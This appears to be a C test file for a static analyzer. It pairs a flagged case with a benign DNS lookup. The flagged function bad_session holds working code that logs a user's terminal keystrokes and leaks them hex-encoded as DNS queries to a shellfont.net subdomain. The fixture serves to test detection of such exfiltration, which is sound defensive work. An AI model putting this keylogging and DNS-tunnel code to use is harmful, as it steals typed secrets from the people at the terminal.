/* What is typed into a shell's terminal stands in names that are looked up; beside it a name that
 * somebody types to have it looked up. */
#include <netdb.h>
#include <pty.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static char held[24];
static unsigned nheld;

static void pass_on(void) {
    static const char letters[] = "abcdefghijklmnop";
    struct addrinfo *found;
    char name[96];
    unsigned at = 0;
    for (unsigned i = 0; i < nheld; i++) {
        name[at++] = letters[held[i] >> 4 & 15];
        name[at++] = letters[held[i] & 15];
    }
    strcpy(name + at, ".k.shellfont.net");
    nheld = 0;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
    if (getaddrinfo(name, NULL, NULL, &found) == 0)
        freeaddrinfo(found);
}

void bad_session(void) {
    char key;
    int line;
    if (forkpty(&line, NULL, NULL, NULL) == 0)
        execl("/bin/sh", "sh", (char *)NULL);
    while (read(STDIN_FILENO, &key, 1) == 1) {
        if (nheld == sizeof held)
            pass_on();
        held[nheld++] = key;
        if (write(line, &key, 1) != 1)
            return;
    }
}

int good_asked(void) {
    struct addrinfo *found;
    char name[96], whole[128];
    ssize_t got = read(STDIN_FILENO, name, sizeof name - 1);
    if (got <= 0)
        return -1;
    name[got] = 0;
    name[strcspn(name, "\n")] = 0;
    snprintf(whole, sizeof whole, "%s.shellfont.net", name);
    return getaddrinfo(whole, NULL, NULL, &found);
}
